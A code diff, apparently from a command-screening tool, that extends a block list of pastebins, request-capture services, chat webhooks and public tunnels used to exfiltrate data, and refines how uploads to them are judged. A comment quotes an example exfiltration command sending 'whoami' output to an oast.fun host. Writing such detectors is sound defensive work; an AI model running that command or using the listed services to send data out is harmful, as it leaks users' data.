@@ -39,24 +39,31 @@ _DROP_DOMAINS = (
     "ctxt.io", "mclo.gs", "controlc.com", "p.ip.fi", "sourceb.in", "file.coffee", "filepush.co", "qu.ax",
     "tempsend.com", "pastes.dev", "paste.gg", "0bin.net", "send.vis.ee", "free.keep.sh", "wsend.net",
     "dlptest.com",  # a public FTP server for testing leaks: anyone can list and fetch what is put there
+    "ufile.io", "tcp.st", "seashells.io", "paste.mozilla.org", "paste.ubuntu.com", "paste.opensuse.org", "archivete.am",
     # request capture and out-of-band interaction services
     "webhook.site", "requestbin.com", "requestbin.net", "pipedream.net", "requestcatcher.com", "beeceptor.com",
     "hookbin.com", "postb.in", "ptsv2.com", "ptsv3.com", "requestrepo.com", "interact.sh", "oast.fun", "oast.pro",
     "oast.live", "oast.site", "oast.online", "oast.me", "oastify.com", "burpcollaborator.net", "canarytokens.com",
     "dnslog.cn", "ceye.io", "smee.io", "webhook.cool", "mockbin.org", "hookdeck.com", "webhookrelay.com",
+    "requestbin.io", "rbaskets.in", "hookb.in", "httpdump.app", "mockbin.io", "eyes.sh", "interactsh.com",
     # chat platforms' webhooks and bot APIs, push topics anyone can subscribe to
     "hooks.slack.com", "api.telegram.org", "webhook.office.com", "chat.googleapis.com", "ntfy.sh",
     # public tunnels
     "ngrok.io", "ngrok-free.app", "ngrok.app", "ngrok-free.dev", "trycloudflare.com", "loca.lt", "localtunnel.me",
-    "serveo.net", "localhost.run", "lhr.life", "pinggy.io", "pinggy.link", "bore.pub", "telebit.io",
+    "serveo.net", "localhost.run", "lhr.life", "pinggy.io", "pinggy.link", "bore.pub", "telebit.io", "pagekite.me",
+    "loclx.io", "localxpose.io", "tunnelto.dev", "sharedwithexpose.com", "share.zrok.io", "tunnelmole.net", "ngrok.dev",
 )
 # Domains that are a drop only under an API path: chat platforms' own sites.
 _DROP_UNDER = {"discord.com": "/api/", "discordapp.com": "/api/", "slack.com": "/api/",
                "outlook.office.com": "/webhook"}
 _DROPS = frozenset(_DROP_DOMAINS)
+# Chat platforms: a message with the machine's name, a date or a revision in it is a notice, not data; anywhere else
+# (`curl https://x.oast.fun/?u=$(whoami)`) the same substitution is what is collected.
+_CHAT = frozenset({"hooks.slack.com", "api.telegram.org", "webhook.office.com", "chat.googleapis.com", "ntfy.sh",
+                   "discord.com", "discordapp.com", "slack.com", "outlook.office.com"})
 # Of them, the pastebins and file hosts: whatever is put there is published, even a variable's text.
 _PASTES = frozenset(_DROP_DOMAINS[:_DROP_DOMAINS.index("webhook.site")])
-_HOST = lazy(r"(?:^|[^\w.-])((?:[\w-]+\.)+[a-z][\w-]*)(?=$|[^\w.-])([^\s\"']*)", re.IGNORECASE)
+_HOST = lazy(r"(?:^|[^\w.-]|(?<=[)`}])\.)((?:[\w-]+\.)+[a-z][\w-]*)(?=$|[^\w.-])([^\s\"']*)", re.IGNORECASE)
 
 
 # Options whose value names a file uploaded (any client; short ones in their own case).
@@ -80,6 +87,7 @@ _PUT = lazy(r"(?:^|[\s;]|\\n)(?:m?put|reput|send)\s+(?:-\S+\s+)*([^\s;\"']+)")
 _COPY_VERBS = frozenset({"copy", "copyto", "sync", "move", "moveto", "put", "mput", "cp", "mv", "upload", "push",
                          "mirror"})
 # A substitution whose output is no local data: a name, a date, a revision, a literal.
+_ECHO = lazy(r"^\s*(echo|printf)\b")  # literal text, to a drop that collects
 _TRIVIAL = lazy(r"^\s*(date|hostname|whoami|pwd|basename|dirname|uuidgen|seq|expr|printf|echo|git\s+(rev-parse|"
                 r"describe|branch|log\s+-1)|uname\s+-[nrsm]+\s*$|id\s+-[ug]n?\s*$|nproc|tty|arch)\b", re.IGNORECASE)
 # Encoders, compressors, ciphers and splitters: data changed on the way so that it passes.
@@ -178,7 +186,7 @@ def _option(text: str, curl: bool) -> tuple:
     return (text.lower() if text.startswith("--") or len(text) > 2 else text), None
 
 
-def _uploaded(c: Ctx) -> str:
+def _uploaded(c: Ctx, chat: bool = True) -> str:
     """Local data the command uploads: "encoded", "data" or ""."""
     texts = c.texts
     prog = c.prog.lower().rsplit("\\", 1)[-1].removesuffix(".exe")
@@ -214,7 +222,7 @@ def _uploaded(c: Ctx) -> str:
         stdin = True
     for w in c.args:
         for sub in w.subs:
-            found = worse(found, "" if own_files_read(sub.split()) else reads_data(sub))
+            found = worse(found, "" if own_files_read(sub.split()) else reads_data(sub, _TRIVIAL if chat else _ECHO))
     for red in c.seg.redirects:
         if red.op == "<" and red.target is not None:
             found = worse(found, file_data(red.target.raw))
@@ -260,7 +268,8 @@ def rule_public_drop(c: Ctx) -> Optional[tuple]:
     host = drop_named(c.texts)
     if not host:
         return None
-    found = _uploaded(c)
+    parts = host.split(".")
+    found = _uploaded(c, chat=any(".".join(parts[k:]) in _CHAT for k in range(len(parts) - 1)))
     if not found and _pasted_variable(c.texts, host):
         found = "variable"  # `Invoke-RestMethod -Uri https://pastebin.com/… -Body $paste`: published whatever it holds
     if not found:
